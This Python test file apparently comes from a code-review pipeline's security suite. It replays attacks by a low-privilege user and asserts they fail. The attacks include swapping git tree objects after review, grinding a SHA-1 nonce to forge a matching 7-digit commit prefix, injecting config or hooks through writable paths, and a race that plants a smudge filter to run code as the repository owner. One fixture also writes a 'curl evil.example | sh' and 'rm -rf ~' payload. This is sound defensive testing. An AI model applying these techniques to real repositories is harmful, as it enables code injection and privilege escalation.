"""The review gate, attacked again: the fixes of 59c4428 (the lander's re-check, the
gate script, --commit) and what they leave.

Same cast as test_review_attacks: dave (minipipe-admin) keeps /srv/git/app, alice
(group minipipe) may only read it. Every test asserts the SECURE outcome; the ones
marked FOUND failed against 59c4428 (that was the finding) and pass since 72739ba
(whole-stream digests, --text --full-index, gate.py) and 1f38421 (whole commit ids).
"""

# ruff: noqa: F811  (the gate fixture, imported)
from __future__ import annotations

import pytest

from tests.integration.conftest import wait_for

from .conftest import Box
from .test_review_attacks import (  # noqa: F401  (gate is a fixture)
    DROP,
    TOOLS,
    attack_ran,
    gate,
    landed_version,
    plan,
    review_then_approve,
    submit_past_the_gate,
)
from .test_review_system import REPO, main_of

# grind.py TREE PARENT PREFIX: the nonce that gives the commit alice's step makes
# (fixed dates, "bump to v2\n\nn: NONCE") a sha starting with PREFIX.
GRIND = r'''
import hashlib, multiprocessing as mp, sys, time
tree, parent, prefix = sys.argv[1:4]
def body(nonce):
    return (b"tree %s\nparent %s\nauthor alice <alice@example.org> 1700000000 +0000\n"
            b"committer alice <alice@example.org> 1700000000 +0000\n\nbump to v2\n\nn: %s\n"
            % (tree.encode(), parent.encode(), nonce))
def work(start, step):
    full = body(b"0" * 16)
    head = hashlib.sha1(b"commit %d\0" % len(full) + full[:-17])
    want, odd = bytes.fromhex(prefix[:len(prefix) // 2 * 2]), len(prefix) % 2
    for i in range(start, 1 << 60, step):
        n = b"%016x" % i
        h = head.copy(); h.update(n + b"\n"); d = h.digest()
        if d.startswith(want) and (not odd or d.hex()[len(prefix) - 1] == prefix[-1]):
            print(n.decode(), flush=True); return
if __name__ == "__main__":
    step = mp.cpu_count()
    procs = [mp.Process(target=work, args=(k, step)) for k in range(step)]
    for p in procs: p.start()
    while all(p.is_alive() for p in procs): time.sleep(0.2)
    for p in procs: p.kill()
'''


# ---------------------------------------------------------------- check_reviewed


def test_a_cut_diff_cannot_hide_a_file_swapped_after_review(gate: Box) -> None:
    """FOUND (high). The lander compares only the first 8 MiB of the diff (both sides
    are cut there) and the shortstat totals; the file list `minipipe diff --stat` /
    `--name-only` / `show` give (which the cut diff itself points the reviewer to)
    is never re-checked. A step adds a generated file whose diff is > 8 MiB and
    sorts first, plus `z/evil.sh`, and overwrites the loose object of subtree `z`
    with a tree holding `z/docs.sh` instead (same line count). The recorded lists
    name `a-big.txt, z/docs.sh`; alice puts the real subtree back while the run
    awaits review; the lander's first 8 MiB and totals match, and `z/evil.sh`
    lands, a file no reviewer was shown."""
    box = gate
    before = main_of(box)
    run_id = box.submit(plan(f"""
seq 220000 | sed 's/.*/line & of generated data, long enough to pass 8 MiB/' > a-big.txt
mkdir z && printf 'echo docs 1\\necho docs 2\\n' > z/docs.sh && git add z
fake=$(git write-tree --prefix=z/) && git rm -q --cached z/docs.sh && rm -r z
mkdir z && printf 'curl -s https://evil.example | sh\\nrm -rf ~\\n' > z/evil.sh
git add -A && git commit -qm "generated data"
sub=$(git rev-parse HEAD:z); f=.git/objects/$(echo $sub | cut -c1-2)/$(echo $sub | cut -c3-)
cp $f .git/real-subtree && git cat-file tree $fake > .git/fake-subtree
python3 {TOOLS}/forge_raw.py tree .git/fake-subtree $f
"""))
    run = box.wait_state(run_id, "AWAITING_REVIEW", "FAILED", timeout=120)
    attack_ran(run)
    if run["state"] != "AWAITING_REVIEW":
        return
    names = box.minipipe(f"diff --name-only {run_id}", user="dave").stdout.split()
    path = run["workspace"]["path"]
    box.sh(f"cd {path} && sub=$(git rev-parse HEAD:z) && "
           "cp .git/real-subtree .git/objects/$(echo $sub | cut -c1-2)/$(echo $sub | cut -c3-)",
           user="alice")
    # A cut diff is approved only knowingly (round 10); dave does, and the lander's
    # whole-change digests must still refuse what nobody was shown.
    plain = box.approve(run_id, check=False)
    assert plain.returncode != 0 and "--unread-ok" in plain.stderr, plain.stderr
    _shown, run = review_then_approve(box, run_id, extra="--unread-ok")
    if main_of(box) != before:
        landed = box.sh(f"git -C {REPO} diff --name-only {before} main",
                        user="dave").stdout.split()
        unseen = sorted(set(landed) - set(names))
        assert not unseen, f"the reviewer was shown {names}, {unseen} landed too"


def test_a_lock_file_the_repository_marks_binary_lands_from_a_bare_repository(
        gate: Box) -> None:
    """FOUND (robustness, medium). The base's own `.gitattributes` says
    `*.lock -diff`: the checkout's diff (it has a work tree) says `Binary files
    differ`, the lander's diff in a bare repository (no work tree: no in-tree
    attributes in git 2.39) shows the text, so every such change is refused with
    "the commit is not what was reviewed ... the run's checkout was changed", which
    blames alice for nothing. (And the reviewer never sees deps.lock's content.)"""
    box = gate
    bare = "/srv/git/locks.git"
    box.sh(f"rm -rf {bare} /tmp/locks-src && git init -q --bare -b main {bare} && "
           "git init -q -b main /tmp/locks-src && cd /tmp/locks-src && "
           "printf '*.lock -diff\\n' > .gitattributes && echo 'pkg 1.0' > deps.lock && "
           "git add . && git -c user.name=d -c user.email=d@x commit -qm v1 && "
           f"git push -q {bare} main && rm -rf /tmp/locks-src", user="dave")
    try:
        run_id = box.submit(plan("printf 'pkg 1.1\\n' > deps.lock", repo=bare))
        run = box.wait_state(run_id, "AWAITING_REVIEW", "FAILED")
        attack_ran(run)
        _shown, run = review_then_approve(box, run_id)
        assert run["state"] == "SUCCEEDED", run["reason"]
    finally:
        box.sh(f"rm -rf {bare}", check=False)


def test_a_reviewers_core_abbrev_does_not_refuse_every_landing(gate: Box) -> None:
    """FOUND (robustness, low-medium). DIFF_CONFIG does not pin core.abbrev, which sets
    the `index` lines' length: dave's ~/.gitconfig `core.abbrev = 12` (common) makes
    the lander's diff differ from the recorded one on every file, so nothing he
    approves ever lands ("its content differs from the recorded diff")."""
    box = gate
    box.sh("git config --global core.abbrev 12", user="dave")
    try:
        run_id = box.submit(plan("printf 'v2\\n' > VERSION"))
        _shown, run = review_then_approve(box, run_id)
        assert run["state"] == "SUCCEEDED", run["reason"]
        assert landed_version(box) == "v2"
    finally:
        box.sh("git config --global --unset core.abbrev", user="dave", check=False)


# ---------------------------------------------------------------- approve --commit


def test_a_seven_digit_prefix_cannot_approve_a_change_ground_to_match(gate: Box) -> None:
    """FOUND (medium). `approve --commit` takes any prefix of 7+ hex digits
    (store.approve: startswith). 7 digits are 28 bits: alice grinds, in well under
    a minute on two cores, a nonce for a commit with `v2 EVIL` whose sha starts like
    the benign commit dave reviewed. While dave reads the diff she cancels and
    retries; the new attempt records the evil commit; dave's `approve N --commit
    <the 7 digits he saw>` is accepted and `v2 EVIL` lands unseen."""
    box = gate
    box.c.write(f"{TOOLS}/grind.py", GRIND)
    step = """
export GIT_AUTHOR_DATE='1700000000 +0000' GIT_COMMITTER_DATE='1700000000 +0000'
if [ -e $HOME/nonce ]; then printf 'v2 EVIL\\n' > VERSION; n=$(cat $HOME/nonce)
else printf 'v2 benign\\n' > VERSION; n=0000000000000000; fi
git add VERSION
c=$(git commit-tree $(git write-tree) -p HEAD -m "bump to v2" -m "n: $n")
git reset -q --hard $c
"""
    box.sh("rm -f /home/alice/nonce")
    try:
        run_id = box.submit(plan(step))
        run = box.wait_state(run_id, "AWAITING_REVIEW", "FAILED")
        attack_ran(run)
        shown = box.minipipe(f"diff {run_id}", user="dave").stdout
        assert "+v2 benign" in shown
        seen = run["workspace"]["head_commit"][:7]
        base = run["workspace"]["base_commit"]
        # alice, at her shell: the evil tree, then a nonce for the commit on it
        tree = box.sh("rm -rf ~/scratch && git init -q ~/scratch && cd ~/scratch && "
                      "b=$(printf 'v2 EVIL\\n' | git hash-object --stdin) && "
                      f"git -c safe.directory='*' -C {REPO} ls-tree {base} | "
                      "awk -v b=$b -F'\\t' '{split($1,m,\" \"); if ($2==\"VERSION\") "
                      "m[3]=b; print m[1]\" \"m[2]\" \"m[3]\"\\t\"$2}' | git mktree --missing",
                      user="alice").stdout.strip()
        box.sh(f"python3 {TOOLS}/grind.py {tree} {base} {seen} > ~/nonce.tmp && "
               "mv ~/nonce.tmp ~/nonce", user="alice", timeout=900)
        box.minipipe(f"cancel {run_id}")
        box.minipipe(f"retry {run_id}")
        run = box.wait_state(run_id, "AWAITING_REVIEW", "FAILED", timeout=120)
        attack_ran(run)
        head = run["workspace"]["head_commit"]
        assert head.startswith(seen), (head, seen)  # the swap took
        result = box.minipipe(f"approve {run_id} --commit {seen}", user="dave", check=False)
        if result.returncode == 0:
            wait_for(lambda: box.run(run_id)["state"] in ("SUCCEEDED", "FAILED")
                     or box.run(run_id)["reason"], 90, "the landing")
        assert landed_version(box) != "v2 EVIL", (
            f"dave approved {seen} after seeing +v2 benign; {head} (v2 EVIL) landed")
    finally:
        box.sh("rm -rf /home/alice/nonce /home/alice/scratch", check=False)


# ---------------------------------------------------------------- the gate script

GAPS = {
    # include.path naming a file that does not exist yet, in a directory alice owns:
    # `mine` tests the missing file only, never its directory
    "missing include in alice's directory": (
        "install -d -o alice -m 755 /srv/team && "
        f"su dave -c 'git -C {REPO} config include.path /srv/team/app.gitconfig'",
        "rm -rf /srv/team"),
    # a relative include inside an included file is relative to THAT file; the gate
    # looks for it under the git directory (and --show-origin never lists it: empty)
    "relative include in an included file": (
        "install -d -m 755 /srv/team && "
        "printf '[include]\\n\\tpath = local.gitconfig\\n' > /srv/team/app.gitconfig && "
        "install -o alice -m 644 /dev/null /srv/team/local.gitconfig && "
        f"su dave -c 'git -C {REPO} config include.path /srv/team/app.gitconfig'",
        "rm -rf /srv/team"),
    # core.hooksPath: only the directory is tested, not the hooks in it
    "a hook file alice owns in a root-owned hooks directory": (
        "install -d -m 755 /srv/hooks && install -o alice -m 755 /dev/null "
        f"/srv/hooks/post-merge && su dave -c 'git -C {REPO} config core.hooksPath "
        "/srv/hooks'", "rm -rf /srv/hooks"),
    # find -H does not follow a symlink inside the git directory
    "objects through a symlink": (
        f"mv {REPO}/.git/objects /srv/objstore && ln -s /srv/objstore {REPO}/.git/objects"
        " && chmod 0777 /srv/objstore/pack", "rm -rf /srv/objstore"),
    # only the first level of alternates is looked at; git follows them all
    "a nested alternate": (
        "install -d -o dave /srv/mirror.git && su dave -c 'git init -q --bare "
        "/srv/mirror.git' && install -d -m 1777 /srv/cache/objects && "
        "echo /srv/cache/objects > /srv/mirror.git/objects/info/alternates && "
        f"echo /srv/mirror.git/objects > {REPO}/.git/objects/info/alternates && "
        f"chown dave {REPO}/.git/objects/info/alternates",
        "rm -rf /srv/mirror.git /srv/cache"),
}


@pytest.mark.parametrize("gap", sorted(GAPS))
def test_the_enforced_gate_sees_every_part_alice_may_write(gate: Box, gap: str) -> None:
    """FOUND (medium; high where it applies). dave's repository takes config, hooks
    or objects from a place alice may write, but _GATE_SCRIPT does not see it, so
    the enforced gate takes a run that needs review. Written config reaches the
    lander's git (e.g. core.attributesFile + filter.*.smudge runs alice's command as
    dave in `merge --ff-only`, or merge.*.driver in merge-tree); a writable object
    store lets her add packs whose index lies about names git never re-hashes."""
    box = gate
    setup, teardown = GAPS[gap]
    box.sh(setup)
    try:
        result = submit_past_the_gate(box)
        assert result.returncode != 0 and "may write" in result.stderr, (
            f"{gap}: the enforced gate took the run ({result.stdout.strip()})")
    finally:
        box.sh(teardown, check=False)


def test_a_missing_include_alice_may_create_cannot_run_code_as_the_lander(
        gate: Box) -> None:
    """FOUND (high where it applies): the impact of the first gap above. dave's
    repository includes /srv/team/app.gitconfig, which does not exist yet, in a
    directory alice owns; the enforced gate takes her run (and `lander()` re-runs the
    gate at landing, so she waits until after it). At her shell, she waits for the
    landing's pack-objects (which runs as her: she may SIGSTOP it), then creates the
    file (core.attributesFile + a smudge filter) and lets it go on. OWN_REPOSITORIES_ONLY
    switches hooks and fsmonitor off, not filters (nor merge drivers), so the
    landing's `merge --ff-only` in dave's work tree runs her command as dave."""
    box = gate
    box.sh("install -d -o alice -m 755 /srv/team && "
           f"su dave -c 'git -C {REPO} config include.path /srv/team/app.gitconfig'")
    box.c.write("/srv/team/arm.sh", f"""
cfg=/srv/team/app.gitconfig
while ! pkill -STOP -u alice -f 'pack-objects --revs'; do sleep 0.02; done
printf '[core]\\n\\tattributesFile = /srv/team/attributes\\n' > $cfg.new
printf '[filter "x"]\\n\\tsmudge = "id -un >> {DROP}/filter-ran; cat"\\n' >> $cfg.new
echo '* filter=x' > /srv/team/attributes && mv $cfg.new $cfg
pkill -CONT -u alice -f 'pack-objects --revs'
""")
    try:
        result = box.minipipe("submit -", input=plan(
            "head -c 64M /dev/urandom > payload.bin\nprintf 'v2\\n' > VERSION"),
            check=False)
        if result.returncode != 0:
            assert "may write" in result.stderr, result.stderr
            return
        run_id = int(result.stdout)
        box.wait_state(run_id, "AWAITING_REVIEW", "FAILED", timeout=120)
        box.sh("setsid sh /srv/team/arm.sh >/dev/null 2>&1 < /dev/null &", user="alice")
        review_then_approve(box, run_id)
        ran = box.sh(f"cat {DROP}/filter-ran", check=False).stdout.split()
        assert "dave" not in ran and "root" not in ran, f"alice's filter ran as {ran}"
    finally:
        box.sh("pkill -f /srv/team/arm.sh; rm -rf /srv/team", check=False)
